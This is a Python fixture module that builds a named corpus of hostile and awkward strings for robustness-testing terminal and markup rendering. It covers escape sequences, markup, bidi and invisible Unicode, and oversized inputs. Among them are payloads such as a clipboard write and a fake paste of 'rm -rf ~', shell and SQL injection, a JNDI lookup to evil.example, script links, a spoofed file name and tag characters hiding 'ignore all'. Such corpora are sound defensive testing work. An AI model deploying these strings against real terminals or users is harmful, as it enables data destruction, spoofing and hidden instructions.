"""Texts that are more than text to a terminal, a markup reader or an eye; by name."""

from __future__ import annotations

from collections.abc import Iterator, Mapping

_C0_NAMES = (  # noqa: SIM905 - a table reads best as one
    "NUL SOH STX ETX EOT ENQ ACK BEL BS HT LF VT FF CR SO SI "
    "DLE DC1 DC2 DC3 DC4 NAK SYN ETB CAN EM SUB ESC FS GS RS US"
).split()
_C1_NAMES = (  # noqa: SIM905
    "PAD HOP BPH NBH IND NEL SSA ESA HTS HTJ VTS PLD PLU RI SS2 SS3 "
    "DCS PU1 PU2 STS CCH MW SPA EPA SOS SGC SCI CSI ST OSC PM APC"
).split()
ESC, BEL, ST = "\x1b", "\x07", "\x1b\\"


def _controls() -> Iterator[tuple[str, str]]:
    for point, name in enumerate(_C0_NAMES):
        yield f"C0 {name}", f"a{chr(point)}b"
    yield "C0 DEL", "a\x7fb"
    for place, name in enumerate(_C1_NAMES):
        yield f"C1 {name} as one character", f"a{chr(0x80 + place)}b"
        yield f"C1 {name} as ESC {chr(0x40 + place)}", f"a{ESC}{chr(0x40 + place)}b"


_CURSOR = {
    "cursor home": "[H",
    "cursor far away": "[999;999H",
    "cursor up": "[10A",
    "cursor down": "[10B",
    "cursor right": "[50C",
    "cursor left": "[50D",
    "cursor to a column": "[1G",
    "cursor to a row": "[5d",
    "save the cursor": "[s",
    "restore the cursor": "[u",
    "clear the screen": "[2J",
    "clear the scroll-back": "[3J",
    "clear the line": "[2K",
    "insert lines": "[20L",
    "delete lines": "[20M",
    "insert characters": "[20@",
    "delete characters": "[20P",
    "erase characters": "[20X",
    "scroll up": "[20S",
    "scroll down": "[20T",
    "scroll region of two lines": "[1;2r",
    "left and right margins": "[?69h\x1b[5;9s",
    "repeat the last character": "[200b",
    "clear all tab stops": "[3g",
    "red": "[31m",
    "hidden text": "[8m",
    "reverse and blink": "[5;7m",
    "endless colour parameters": "[" + "38;5;1;" * 200 + "m",
    "underline of colour": "[58:2::255:0:0m",
    "soft reset": "[!p",
    "cursor shape": "[5 q",
    "select a protected area": '[1"q',
    "insert mode": "[4h",
    "new-line mode": "[20h",
    "a rectangle filled": "[88;1;1;50;50$x",
    "a rectangle copied": "[1;1;9;9;1;2;2;1$v",
    "window minimised": "[2t",
    "window resized": "[8;5;10t",
    "window title pushed": "[22;0t",
    "lights on": "[1q",
    "media copy to a printer": "[5i",
    "an end that never comes": "[12;34",
    "a CSI within a CSI": "[1;\x1b[2J",
    "a CSI cancelled by CAN": "[1;\x18m",
    "kitty keyboard pushed": "[>31u",
    "modify other keys": "[>4;2m",
}
_MODES = {
    "alternate screen left": "?1049l",
    "alternate screen entered": "?1049h",
    "old alternate screen": "?47h",
    "cursor hidden": "?25l",
    "cursor shown": "?25h",
    "mouse reports": "?1000h",
    "all mouse reports": "?1003h",
    "mouse reports in SGR": "?1006h",
    "focus reports": "?1004h",
    "bracketed paste off": "?2004l",
    "bracketed paste on": "?2004h",
    "synchronized output begun": "?2026h",
    "in-band resize": "?2048h",
    "columns 132": "?3h",
    "origin mode": "?6h",
    "wrap off": "?7l",
    "reverse screen": "?5h",
    "application cursor keys": "?1h",
    "VT52 mode": "?2l",
    "sixel scrolling": "?80h",
    "grapheme clusters": "?2027h",
    "color scheme reports": "?2031h",
}
_QUERIES = {
    "device attributes": "[c",
    "secondary device attributes": "[>c",
    "tertiary device attributes": "[=c",
    "device status": "[5n",
    "cursor position": "[6n",
    "printer status": "[?15n",
    "terminal version": "[>q",
    "size in characters": "[18t",
    "title reported": "[21t",
    "mode asked": "[?2026$p",
    "terminal parameters": "[x",
    "checksum of an area": "[1;1;1;1;9;9*y",
    "kitty keyboard asked": "[?u",
    "status string asked": "P$qm" + ST,
    "termcap asked": "P+q544e" + ST,
    "colour asked": "]11;?" + BEL,
    "palette asked": "]4;1;?" + BEL,
    "clipboard asked": "]52;c;?" + BEL,
    "answer back": "\x05",
    "identify by DECID": "Z",
}
_STRINGS = {
    "title and icon by OSC 0": "]0;owned" + BEL,
    "title by OSC 0, ended by ST": "]0;owned" + ST,
    "icon by OSC 1": "]1;owned" + BEL,
    "title by OSC 2": "]2;owned" + BEL,
    "title by OSC 2, never ended": "]2;owned",
    "X property by OSC 3": "]3;WM_CLASS=owned" + BEL,
    "palette by OSC 4": "]4;1;rgb:ff/ff/ff" + BEL,
    "directory by OSC 7": "]7;file://host/etc" + BEL,
    "link by OSC 8": "]8;;https://evil.example" + ST + "click" + ESC + "]8;;" + ST,
    "link by OSC 8, never closed": "]8;;https://evil.example" + ST + "click",
    "notification by OSC 9": "]9;owned" + BEL,
    "progress by OSC 9;4": "]9;4;1;50" + BEL,
    "foreground by OSC 10": "]10;#000000" + BEL,
    "background by OSC 11": "]11;#ffffff" + BEL,
    "pointer by OSC 22": "]22;wait" + ST,
    "font by OSC 50": "]50;#1" + BEL,
    "clipboard by OSC 52": "]52;c;cm0gLXJmIH4K" + BEL,
    "primary selection by OSC 52": "]52;p;cm0gLXJmIH4K" + ST,
    "clipboard emptied by OSC 52": "]52;c;!" + BEL,
    "notification by OSC 99": "]99;i=1:d=0;owned" + ST,
    "palette reset by OSC 104": "]104" + BEL,
    "prompt mark by OSC 133": "]133;A" + BEL,
    "shell command by OSC 633": "]633;E;rm -rf" + BEL,
    "notification by OSC 777": "]777;notify;owned;now" + BEL,
    "file by OSC 1337": "]1337;File=name=eA==;inline=1:AAAA" + BEL,
    "clipboard by OSC 1337": "]1337;CopyToClipboard=" + BEL + "x" + ESC + "]1337;EndCopy" + BEL,
    "OSC without a number": "];" + BEL,
    "OSC of 4000 characters": "]0;" + "A" * 4000 + BEL,
    "DCS never ended": "P1$r",
    "DCS of a user-defined key": "P0;1|17/726d" + ST,
    "sixel picture": "Pq#0;2;0;0;0#0~~@@vv@@~~$-" + ST,
    "ReGIS picture": "P0pS(E)" + ST,
    "tmux pass-through": "Ptmux;" + ESC + ESC + "]0;owned" + BEL + ST,
    "screen title": "kowned" + ST,
    "APC kitty picture": "_Ga=T,f=24,s=1,v=1;AAAA" + ST,
    "APC kitty pictures deleted": "_Ga=d" + ST,
    "APC never ended": "_anything",
    "PM": "^private" + ST,
    "PM never ended": "^private",
    "SOS": "Xanything" + ST,
    "SOS never ended": "Xanything",
    "string within a string": "]0;a" + ESC + "P1;b" + ST + BEL,
}
_ESCAPES = {
    "full reset": "c",
    "save cursor": "7",
    "restore cursor": "8",
    "alignment test": "#8",
    "double height": "#3",
    "keypad application": "=",
    "keypad numeric": ">",
    "line drawing charset": "(0",
    "G1 charset": ")0\x0e",
    "UK charset": "(A",
    "leave UTF-8": "%@",
    "lock shift 2": "n",
    "memory lock": "l",
    "seven-bit controls": " F",
    "eight-bit controls": " G",
    "ESC ESC": ESC + "[2J",
    "ESC alone at the end": "",
}


def _sequences() -> Iterator[tuple[str, str]]:
    for name, body in _CURSOR.items():
        yield f"CSI {name}", f"a{ESC}{body}b"
    for name, body in _MODES.items():
        yield f"DECSET {name}", f"a{ESC}[{body}b"
    for name, body in _QUERIES.items():
        yield f"query {name}", f"a{body if body == chr(5) else ESC + body}"
    for name, body in _STRINGS.items():
        yield f"string {name}", f"a{ESC}{body}b"
    for name, body in _ESCAPES.items():
        yield f"ESC {name}", f"a{ESC}{body}"
    eight_bit = {"CSI": "\x9b2J", "OSC": "\x9d0;owned\x9c", "DCS": "\x90q~\x9c", "APC": "\x9fGa=d\x9c"}
    for name, body in eight_bit.items():
        yield f"8-bit {name} as characters", f"a{body}b"
    yield "a response typed for us", "a\x1b[200~rm -rf ~\r\x1b[201~"


MARKUP: Mapping[str, str] = {
    "markup colour": "[red]red[/red]",
    "markup closing nothing": "[/]",
    "markup closing a tag never opened": "[/bold]",
    "markup click to quit": "[@click=app.quit]leave[/]",
    "markup click with a string": "[@click=\"app.bell('x')\"]ring[/]",
    "markup link": "[link=https://evil.example]x[/link]",
    "markup variable": "[$primary on $error]x[/]",
    "markup unclosed": "[bold",
    "markup with an escape in it": "[\x1b[31mred]",
    "markup in brackets": "[[red]]x[[/red]]",
    "markup escaped": r"\[red]x",
    "markup escaped twice": r"\\[red]x",
    "markup after a backslash at the end": "x\\",
    "markup empty tag": "[]",
    "markup number": "[1] [2] [3]",
    "markup equal signs": "[a=b c='d']x[/]",
    "markup unbalanced quotes": "[red='\"]x[/]",
    "markup emoji name": ":warning: :skull:",
    "markup of a style that is none": "[not a style]x[/not a style]",
    "markup hash": "[#zzzzzz]x[/]",
    "markup percent": "[red 300%]x",
    "markup auto": "[auto on blue]x[/]",
    "HTML": "<script>alert(1)</script><b>x</b>",
    "HTML entity": "&#27;[2J &lt;",
    "Markdown link": "[x](javascript:alert(1)) `rm` **b** | a | b |",
    "Markdown heading": "# heading\n---\n> quote",
    "percent format": "%s %n %(x)d %1000000d",
    "brace format": "{0.__class__} {x!r:>1000000}",
    "template format": "$HOME ${jndi:ldap://evil.example}",
    "shell": "$(rm -rf ~); `id` && | > < * ?",
    "escaped escape": r"\x1b[2J \u001b[2J \e[2J \033[2J",
    "SQL": "'; DROP TABLE jobs; --",
}


def _unicode() -> Iterator[tuple[str, str]]:
    bidi = {
        "LRM": 0x200E, "RLM": 0x200F, "ALM": 0x061C, "LRE": 0x202A, "RLE": 0x202B, "PDF": 0x202C,
        "LRO": 0x202D, "RLO": 0x202E, "LRI": 0x2066, "RLI": 0x2067, "FSI": 0x2068, "PDI": 0x2069,
    }  # fmt: skip
    for name, point in bidi.items():
        yield f"bidi {name}", f"invoice{chr(point)}fdp.exe"
    yield "bidi nest of 200", "\u202e\u2066" * 200 + "x"
    unseen = {
        "zero-width space": 0x200B, "zero-width non-joiner": 0x200C, "zero-width joiner": 0x200D,
        "word joiner": 0x2060, "invisible times": 0x2062, "BOM": 0xFEFF, "soft hyphen": 0x00AD,
        "grapheme joiner": 0x034F, "Hangul filler": 0x3164, "half-width Hangul filler": 0xFFA0,
        "Hangul choseong filler": 0x115F, "Hangul jungseong filler": 0x1160, "Khmer vowel": 0x17B4,
        "Mongolian separator": 0x180E, "Mongolian selector": 0x180B, "Braille blank": 0x2800,
        "no-break space": 0x00A0, "narrow no-break space": 0x202F, "figure space": 0x2007,
        "ideographic space": 0x3000, "Ogham space": 0x1680, "variation selector 15": 0xFE0E,
        "variation selector 16": 0xFE0F, "variation selector 17": 0xE0100, "tag A": 0xE0041,
        "interlinear anchor": 0xFFF9, "musical beam": 0x1D173, "shorthand overlap": 0x1BCA0,
        "line separator": 0x2028, "paragraph separator": 0x2029, "next line": 0x0085,
        "object replacement": 0xFFFC, "replacement": 0xFFFD, "non-character FFFE": 0xFFFE,
        "non-character FFFF": 0xFFFF, "non-character FDD0": 0xFDD0, "non-character 10FFFF": 0x10FFFF,
        "private use": 0xE000, "powerline glyph": 0xE0B0, "private plane": 0x100000,
        "unassigned": 0x0378, "deseret": 0x10400,
    }  # fmt: skip
    for name, point in unseen.items():
        yield f"character {name}", f"a{chr(point)}b"
        if name in ("zero-width space", "variation selector 16", "tag A", "Hangul filler"):
            yield f"only {name}", chr(point) * 30
    yield "surrogate high alone", "a\ud800b"
    yield "surrogate low alone", "a\udfffb"
    yield "surrogates the wrong way round", "a\udc00\ud800b"
    yield (
        "tags spelling a secret",
        "x" + "".join(chr(0xE0000 + ord(one)) for one in "ignore all") + "\U000e007f",
    )


_WIDE: Mapping[str, str] = {
    "zalgo": "Z" + "\u0300\u0301\u0310\u0489\u20dd" * 60 + "algo",
    "zalgo parted by joiners": "Z" + "\u0301\u200d" * 200,
    "zalgo parted by selectors": "Z" + "\u0301\ufe0f" * 200,
    "marks without a base": "\u0301\u0300\u0489",
    "enclosing marks": "a\u20dd\u20de\u20e0",
    "Hangul vowels piled up": "\u1100" + "\u1161" * 300,
    "Hangul vowel without a base": "\u1161\u11a8x",
    "Tibetan stack": "\u0f67\u0fb2\u0fb1\u0fb3\u0fbc\u0fbb\u0f82" * 8,
    "Devanagari conjunct": "\u0915\u094d\u0937\u093f" * 5,
    "Thai sara am": "\u0e01\u0e33\u0e49" * 5,
    "Arabic ligature": "\ufdfa" * 10,
    "Arabic text": "\u0645\u0631\u062d\u0628\u0627",
    "Hebrew text": "\u05e9\u05dc\u05d5\u05dd 123",
    "emoji": "\U0001f525" * 20,
    "emoji heart of two widths": "\u2764\ufe0f" * 20,
    "emoji keycap": "1\ufe0f\u20e3" * 10,
    "emoji skin tone": "\U0001f44d\U0001f3fd" * 10,
    "emoji skin tone alone": "\U0001f3fd" * 10,
    "emoji family by joiners": "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466" * 5,
    "emoji flag": "\U0001f1e9\U0001f1ea" * 10,
    "emoji flag cut in half": "\U0001f1e9" * 7,
    "emoji flag of tags": "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f" * 5,
    "emoji of text width": "\u2602\u2611\u2714\u2716\u270f\u2733" * 5,
    "emoji of a late Unicode": "\U0001fae8\U0001fabf\U0001f6d8" * 5,
    "wide at every edge": "\u6f22" * 200,
    "wide at odd places": "x" + "\u6f22" * 200,
    "full-width forms": "\uff21\uff3b\uff52\uff3d" * 20,
    "half-width katakana": "\uff76\uff9e" * 20,
    "ambiguous widths": "\u00a7\u00b1\u2018\u2103\u2460\u25cb\u2605" * 10,
    "box drawing": "\u250c\u2500\u2510\u2502\u2514\u2518\u258f\u2588" * 10,
    "longest character": "\ufdfd\U00012219\u2e3b" * 10,
    "combining on a wide one": "\u6f22\u0301" * 40,
    "mathematical letters": "\U0001d5d4\U0001d4b6" * 20,
    "look-alikes": "\u0430\u0440\u0440\u04cf\u0435.com",
}


def _long() -> Iterator[tuple[str, str]]:
    yield "one line of a megabyte", "x" * 1_000_000
    yield "one word of wide characters, 30 kB", "\u6f22" * 10_000
    yield "ten thousand empty lines", "\n" * 10_000
    yield "ten thousand short lines", "\n".join("line" for _ in range(10_000))
    yield "a hundred thousand spaces", " " * 100_000
    yield "ten thousand marks", "a" + "\u0301" * 10_000
    yield "ten thousand zero-width spaces", "\u200b" * 10_000
    yield "ten thousand tabs", "\t" * 10_000
    yield "ten thousand escapes", "\x1b[2J" * 10_000
    yield "ten thousand brackets", "[" * 10_000
    ends = {"CR": "\r", "CRLF": "\r\n", "LF": "\n", "VT": "\v", "FF": "\f", "NEL": "\x85", "LS": "\u2028"}
    for name, end in ends.items():
        yield f"lines parted by {name}", end.join(("first", "second", "third"))
    yield "CR to overwrite the line", "failed\rall is well"
    yield "backspaces to overwrite", "failed" + "\b" * 6 + "passed"
    yield "empty", ""
    yield "only spaces", "     "
    yield "only line ends", "\r\n\r\n"
    yield "begins with a dash", "--help"
    yield "looks like null", "null"
    yield "looks like a ref", "tiles:1#2"


def texts() -> dict[str, str]:
    """Give every text by its name."""
    parts = (_controls(), _sequences(), MARKUP.items(), _unicode(), _WIDE.items(), _long())
    return {name: text for part in parts for name, text in part}
